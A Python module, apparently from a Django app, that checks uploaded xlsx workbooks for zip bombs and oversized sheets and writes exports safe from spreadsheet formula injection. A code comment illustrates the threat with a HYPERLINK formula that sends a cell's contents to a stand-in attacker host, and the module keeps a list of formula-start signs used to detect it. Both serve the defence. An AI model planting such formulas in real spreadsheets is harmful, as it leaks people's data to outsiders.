"""What every xlsx import shares (the file check and the cell-to-text rule, whatever program saved the file), and
the one way every xlsx export writes its cells (no formula injection: see the section at the end)."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from typing import TYPE_CHECKING, Any

from django.core.files.uploadedfile import UploadedFile
from django.template.defaultfilters import filesizeformat
from django.utils.translation import gettext as _
from openpyxl import load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, Cell
from openpyxl.packaging.manifest import Manifest
from openpyxl.reader.workbook import WorkbookParser
from openpyxl.utils.cell import range_boundaries
from openpyxl.xml.constants import ARC_CONTENT_TYPES, ARC_WORKBOOK, SHARED_STRINGS
from openpyxl.xml.functions import fromstring

if TYPE_CHECKING:  # for the writing section's type hints only
    from openpyxl.styles import Alignment, Border, Font, PatternFill
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
YES, NO = "是", "否"


class XlsxFileError(Exception):
    """The file as a whole cannot be read (not xlsx, too big, no header, a column missing …)."""

    def __init__(self, messages: str | Sequence[str]):
        self.messages = [messages] if isinstance(messages, str) else list(messages)
        super().__init__("; ".join(self.messages))


class CellError(ValueError):
    """One cell's value has the wrong type or is not among the allowed values."""


def normalise(text: str) -> str:
    return text.replace("\u3000", " ").replace("\xa0", " ").strip()


def is_blank(value: Any) -> bool:
    return value is None or (isinstance(value, str) and not normalise(value))


def cell_text(value: Any) -> str:
    """A text cell; numbers typed into text columns (工号 2019001 saved as 2019001.0) come back as digits."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return YES if value else NO
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, dt.datetime):
        return value.date().isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    return normalise(str(value))


def damaged_message(name: str) -> str:
    """What a person is told about a file openpyxl cannot read, whatever the reason."""
    return _("“%(name)s” could not be read as an Excel workbook: it may be damaged. Open it in Excel or "
             "LibreOffice, save it as .xlsx and upload it again.") % {"name": name}


def too_many_rows_message(sheet: str, limit: int) -> str:
    return _("The sheet “%(sheet)s” has more than %(limit)s rows, counting the header, any title lines and blank "
             "rows. Delete the empty rows below the data (select them and delete the rows, not only their "
             "contents), or split the data into several files, then upload again.") % {
        "sheet": sheet, "limit": f"{limit:,}"}


def check_xlsx(upload: UploadedFile, *, max_bytes: int, max_rows: int, max_cells: int | None = None) -> None:
    """Refuse, with a message saying what to do, anything that is not an xlsx workbook of reasonable size.

    Besides the file's own size this looks inside the zip before openpyxl opens it (see “Files built to hold a
    worker” below): every worksheet may have at most `max_rows` rows, blank ones included, and all of them
    together at most `max_cells` cells (by default CELLS_PER_ROW a row).
    """
    name = upload.name or ""
    if not upload.size:
        raise XlsxFileError(_("“%(name)s” is empty.") % {"name": name})
    if upload.size > max_bytes:
        raise XlsxFileError(
            _("“%(name)s” is %(size)s; a file may be at most %(limit)s. Split it into several files.")
            % {"name": name, "size": filesizeformat(upload.size), "limit": filesizeformat(max_bytes)}
        )
    upload.seek(0)
    head = upload.read(8)
    upload.seek(0)
    if head.startswith(b"\xd0\xcf\x11\xe0"):
        raise XlsxFileError(
            _("“%(name)s” is an old-style .xls workbook. Open it and save it as “Excel workbook (.xlsx)”, "
              "then upload it again.") % {"name": name}
        )
    try:
        archive: zipfile.ZipFile | None = zipfile.ZipFile(upload)
    except Exception:  # any damaged or crafted zip (e.g. an unsupported version) is simply not a workbook
        archive = None
    try:
        if archive is None or ARC_WORKBOOK not in archive.namelist():
            raise XlsxFileError(
                _("“%(name)s” is not an Excel workbook (.xlsx). Save the file as .xlsx, for example from the "
                  "template, and upload it again.") % {"name": name}
            )
        _check_parts(archive, name, max_rows=max_rows,
                     max_cells=max_rows * CELLS_PER_ROW if max_cells is None else max_cells)
    finally:
        if archive is not None:
            archive.close()
        upload.seek(0)


def read_rows(upload: UploadedFile, *, sheet_title: str, max_rows: int) -> Iterator[tuple[int, tuple[Any, ...]]]:
    """The rows of the sheet called `sheet_title` (else the first sheet) as (row number, values), from row 1.

    Blank rows, and the gaps between stored rows, come as empty tuples and count: past `max_rows` rows the
    reading stops with XlsxFileError, however the file describes itself. Values past column MAX_COLUMNS are not
    read, and trailing empty cells are dropped. Call check_xlsx first, which refuses a file too big to open; a
    sheet openpyxl can open but not parse raises what openpyxl raises, for the caller to report as damaged.
    """
    name = upload.name or ""
    try:
        workbook = load_workbook(upload, read_only=True, data_only=True, keep_links=False)
    except Exception as error:  # openpyxl raises many kinds for damaged files; all mean the same to the user
        raise XlsxFileError(damaged_message(name)) from error
    try:
        sheet = workbook[sheet_title] if sheet_title in workbook.sheetnames else workbook.worksheets[0]
        # Some programs write a wrong sheet size; reading without it takes every row actually stored.
        sheet.reset_dimensions()
        for number, cells in enumerate(sheet.iter_rows(values_only=True, max_col=MAX_COLUMNS), start=1):
            if number > max_rows:
                raise XlsxFileError(too_many_rows_message(sheet.title, max_rows))
            end = len(cells)
            while end and cells[end - 1] is None:
                end -= 1
            yield number, cells[:end]
    finally:
        workbook.close()


# === Files built to hold a worker ===============================================================
#
# An xlsx file is a zip of XML parts, and openpyxl trusts them: 1 MB of zip can unpack to gigabytes, a sheet can
# hold millions of blank rows (or declare them in its <dimension>), a shared-strings part is read into memory
# whole when the workbook is opened, and a sheet without a <dimension> is parsed to its end just to open the
# workbook. Such a file held a worker for minutes (security issue 13). So check_xlsx looks at the archive first,
# reading only what the zip's directory says and the unpacked XML as bytes, never an XML parser:
#   * each part's unpacked size, their total and each large part's compression ratio. The directory's sizes can
#     be trusted: zipfile never unpacks more of a part than its directory entry declares (it stops there, and the
#     CRC check fails), and openpyxl reads through zipfile;
#   * the shared strings' unpacked size and number;
#   * for every worksheet openpyxl will open: the <dimension> at its start, then its rows (gaps included, as
#     openpyxl numbers them) and cells, counted by a regex pass over the unpacked bytes that stops at the limit.
# read_rows then counts the rows again as openpyxl yields them. Entity declarations (a “billion laughs” DTD)
# cannot enlarge a part either: openpyxl parses with defusedxml, which refuses them, when it is installed
# (requirements.txt).

MAX_UNPACKED_BYTES = 64 * 1024 * 1024  # all parts together; a 20,000-row roster unpacks to about 12 MB
MAX_PART_BYTES = 48 * 1024 * 1024
MAX_SHARED_STRINGS_BYTES = 8 * 1024 * 1024  # a 20,000-row roster saved by Excel holds about 3 MB of text
MAX_RATIO = 100  # Excel's, WPS's and LibreOffice's sheets compress 8 to 20 times
RATIO_CHECKED_FROM = 1024 * 1024  # small parts (styles, an empty sheet) may compress far better, harmlessly
CELLS_PER_ROW = 40  # a template's columns, a few of one's own and empty cells a spreadsheet formatted
MAX_COLUMNS = 100  # values further right are not read: a cell in column XFD would make every row 16,384 long
HEAD_BYTES = 64 * 1024  # a sheet's <dimension> comes before its rows, after a few short elements
CHUNK_BYTES = 1024 * 1024
SHARED_STRINGS_PART = "xl/sharedStrings.xml"

_PREFIX = rb"<(?:[A-Za-z_][\w.-]*:)?"  # an element, with or without a namespace prefix
# Attribute values may hold “>” but never “<”: each try to match stops at the next “<”, so a pass stays linear.
_ATTRIBUTES = rb"""((?:[^<>"']|"[^"<]*"|'[^'<]*')*)>"""
ROW_TAG = re.compile(_PREFIX + rb"row(?=[\s/>])" + _ATTRIBUTES)
CELL_TAG = re.compile(_PREFIX + rb"c(?=[\s/>])")
STRING_TAG = re.compile(_PREFIX + rb"si(?=[\s/>])")
DIMENSION_TAG = re.compile(_PREFIX + rb"dimension(?=[\s/>])" + _ATTRIBUTES)
ROW_NUMBER = re.compile(rb"""(?:^|\s)r\s*=\s*["']([^"']*)["']""")
REF = re.compile(rb"""(?:^|\s)ref\s*=\s*["']([^"']*)["']""")


def _too_large(name: str, size: int, limit: int) -> XlsxFileError:
    return XlsxFileError(
        _("“%(name)s” is too large once unpacked: %(size)s, where at most %(limit)s is read. Delete unused rows, "
          "columns and sheets (or copy the data into the template), save the file as .xlsx and upload it again.")
        % {"name": name, "size": filesizeformat(size), "limit": filesizeformat(limit)}
    )


def _strings_too_large(name: str, size: int) -> XlsxFileError:
    return XlsxFileError(
        _("The text stored in “%(name)s” is %(size)s once unpacked; at most %(limit)s is read. A cell may hold "
          "a very long pasted text: delete it, save the file and upload it again.")
        % {"name": name, "size": filesizeformat(size), "limit": filesizeformat(MAX_SHARED_STRINGS_BYTES)}
    )


def _check_parts(archive: zipfile.ZipFile, name: str, *, max_rows: int, max_cells: int) -> None:
    parts = archive.infolist()
    for part in parts:
        # The shared strings by their usual name first, for the clearer message; by the name the manifest
        # gives them below.
        if part.filename == SHARED_STRINGS_PART and part.file_size > MAX_SHARED_STRINGS_BYTES:
            raise _strings_too_large(name, part.file_size)
        if part.file_size > MAX_PART_BYTES:
            raise _too_large(name, part.file_size, MAX_PART_BYTES)
        if part.file_size > RATIO_CHECKED_FROM and part.file_size > MAX_RATIO * max(part.compress_size, 1):
            raise XlsxFileError(
                _("“%(name)s” is compressed about %(ratio)s times, far more than a workbook saved by Excel, WPS "
                  "or LibreOffice, so it is not read. Open it in Excel, copy the data into the template, save "
                  "it as .xlsx and upload it again.")
                % {"name": name, "ratio": f"{part.file_size // max(part.compress_size, 1):,}"}
            )
    total = sum(part.file_size for part in parts)
    if total > MAX_UNPACKED_BYTES:
        raise _too_large(name, total, MAX_UNPACKED_BYTES)
    try:
        strings, sheets = _strings_and_sheets(archive)
        if strings is not None:
            _check_strings(archive, strings, name, max_cells=max_cells)
        cells = 0
        for title, part_name in sheets:
            cells += _check_sheet(archive, part_name, title, max_rows=max_rows, max_cells=max_cells - cells)
            if cells > max_cells:
                raise XlsxFileError(
                    _("“%(name)s” has more than %(limit)s cells, counting empty cells that carry formatting. "
                      "Delete the unused rows and columns to the right of and below the data, or copy the data "
                      "into the template, then upload again.") % {"name": name, "limit": f"{max_cells:,}"}
                )
    except XlsxFileError:
        raise
    except Exception as error:  # a part that is not what its name says, a CRC error …: damaged
        raise XlsxFileError(damaged_message(name)) from error


def _strings_and_sheets(archive: zipfile.ZipFile) -> tuple[str | None, list[tuple[str, str]]]:
    """The shared-strings part and each worksheet's (title, part), found the way openpyxl finds them."""
    names = set(archive.namelist())
    strings = None
    if ARC_CONTENT_TYPES in names:
        found = Manifest.from_tree(fromstring(archive.read(ARC_CONTENT_TYPES))).find(SHARED_STRINGS)
        strings = found.PartName[1:] if found is not None else None
    parser = WorkbookParser(archive, ARC_WORKBOOK, keep_links=False)
    parser.parse()
    sheets = [(sheet.name, rel.target) for sheet, rel in parser.find_sheets()
              if rel.target in names and "chartsheet" not in rel.Type]
    return (strings if strings in names else None), sheets


def _pieces(archive: zipfile.ZipFile, part_name: str) -> Iterator[bytes]:
    """A part's unpacked bytes a chunk at a time, each cut before a tag still open at its end, so that no tag is
    split between two pieces (an attribute value cannot hold “<”)."""
    rest = b""
    with archive.open(part_name) as stream:
        while chunk := stream.read(CHUNK_BYTES):
            piece = rest + chunk
            cut = piece.rfind(b"<")
            if cut == -1 or piece.find(b">", cut) != -1:
                cut = len(piece)
            rest = piece[cut:]
            if len(rest) > CHUNK_BYTES:
                raise ValueError(f"a tag in {part_name} is longer than {CHUNK_BYTES} bytes")
            yield piece[:cut]
    yield rest


def _check_strings(archive: zipfile.ZipFile, part_name: str, name: str, *, max_cells: int) -> None:
    size = archive.getinfo(part_name).file_size
    if size > MAX_SHARED_STRINGS_BYTES:
        raise _strings_too_large(name, size)
    count = 0
    for piece in _pieces(archive, part_name):
        count += len(STRING_TAG.findall(piece))
        if count > max_cells:  # a text no cell can show is only there to be read
            raise XlsxFileError(
                _("“%(name)s” holds more than %(limit)s different texts, more than its cells can show. Copy the "
                  "data into the template, save it as .xlsx and upload it again.")
                % {"name": name, "limit": f"{max_cells:,}"}
            )


def _row_number(text: bytes) -> int:
    """A row's r attribute as openpyxl reads it: an integer, or a float that is one (anything else is damage)."""
    try:
        return int(text)
    except ValueError:
        number = float(text)
        if not number.is_integer():
            raise
        return int(number)


def _declared_rows(head: bytes) -> int | None:
    """The last row of the <dimension ref="A1:R20001"/> near a sheet's start; None where there is none."""
    tag = DIMENSION_TAG.search(head)
    ref = REF.search(tag.group(1)) if tag else None
    if ref is None:
        return None
    try:
        return range_boundaries(ref.group(1).decode("ascii"))[3]
    except (ValueError, TypeError, UnicodeDecodeError):
        return None  # openpyxl refuses it when it opens the workbook; the rows are counted below anyway


def _check_sheet(archive: zipfile.ZipFile, part_name: str, title: str, *, max_rows: int, max_cells: int) -> int:
    """Refuse a sheet that declares or holds more than max_rows rows; return its number of cells (or, once past
    max_cells, that number so far)."""
    with archive.open(part_name) as stream:
        declared = _declared_rows(stream.read(HEAD_BYTES))
    if declared is not None and declared > max_rows:
        raise XlsxFileError(
            _("The used range of the sheet “%(sheet)s” reaches row %(rows)s; at most %(limit)s rows are read, "
              "counting blank rows. Delete the unused rows below the data (select them and delete the rows, not "
              "only their contents), save the file and upload it again.")
            % {"sheet": title, "rows": f"{declared:,}", "limit": f"{max_rows:,}"}
        )
    row = highest = cells = 0
    for piece in _pieces(archive, part_name):
        for tag in ROW_TAG.finditer(piece):
            number = ROW_NUMBER.search(tag.group(1))
            row = _row_number(number.group(1)) if number else row + 1
            highest = max(highest, row)
        if highest > max_rows:
            raise XlsxFileError(too_many_rows_message(title, max_rows))
        cells += len(CELL_TAG.findall(piece))
        if cells > max_cells:
            break
    return cells


# === Writing: the one way an export puts a value into a sheet ====================================
#
# Every xlsx export writes its cells through `append_row`, `safe_cell` or `write_cell`, so that text a person typed
# (a volunteer's name, a note, a unit's or a task's title …) is never a formula in the file. openpyxl stores any
# str that begins with "=" as a formula, so a volunteer named =HYPERLINK("http://evil.example/?x="&A2,"点我查看")
# would become a live link in the exported roster. Text here is always an explicit string cell (data type "s",
# an inline string in the file: Excel and LibreOffice show it and never evaluate it), and text beginning with a
# sign a spreadsheet program reads as the start of a formula (OWASP's list for CSV injection: = + - @ tab CR) also
# carries Excel's quote prefix, the mark Excel itself sets when someone types '=…: the cell shows the text exactly
# as typed, and stays text even when someone opens it for editing and presses Enter. The full-width signs are
# treated the same way, as Chinese input methods type them and Excel may take them for the ASCII ones.
# tests/test_xlsx_formula_injection.py downloads every export with such text and checks that no cell is a formula.

FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program could read `text`, typed into a cell, as a formula."""
    return text.startswith(FORMULA_SIGNS)


def _inert(cell: Cell) -> Cell:
    """Make a cell's text a plain string cell (never a formula or an error value), with the quote prefix where
    its first character could start a formula."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if is_formula_like(cell.value):
            cell.quotePrefix = True
    return cell


def safe_cell(sheet: Worksheet | WriteOnlyWorksheet, value: Any, *, font: Font | None = None,
              fill: PatternFill | None = None, alignment: Alignment | None = None, border: Border | None = None,
              number_format: str | None = None) -> Cell:
    """A cell of `sheet` holding `value`, styled, to be written with `append_row` (in write-only mode as well).
    Numbers, dates, booleans and None are kept as they are; text is always text, never a formula."""
    cell = WriteOnlyCell(sheet, value=value)
    for name, style in (("font", font), ("fill", fill), ("alignment", alignment), ("border", border),
                        ("number_format", number_format)):
        if style is not None:
            setattr(cell, name, style)
    return _inert(cell)


def _row_value(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Any:
    if isinstance(value, Cell):
        return _inert(value)
    if isinstance(value, str) and (is_formula_like(value) or value in ERROR_CODES):
        return safe_cell(sheet, value)
    return value  # plain text openpyxl stores as a string cell anyway; no cell object, so write-only stays fast


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Append one row of values (plain values, or cells from `safe_cell`) below the last row of `sheet`."""
    sheet.append([_row_value(sheet, value) for value in values])


def write_cell(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Put `value` into the cell at (row, column) of an ordinary (not write-only) sheet and return the cell."""
    cell = sheet.cell(row, column)
    cell.value = value
    return _inert(cell)
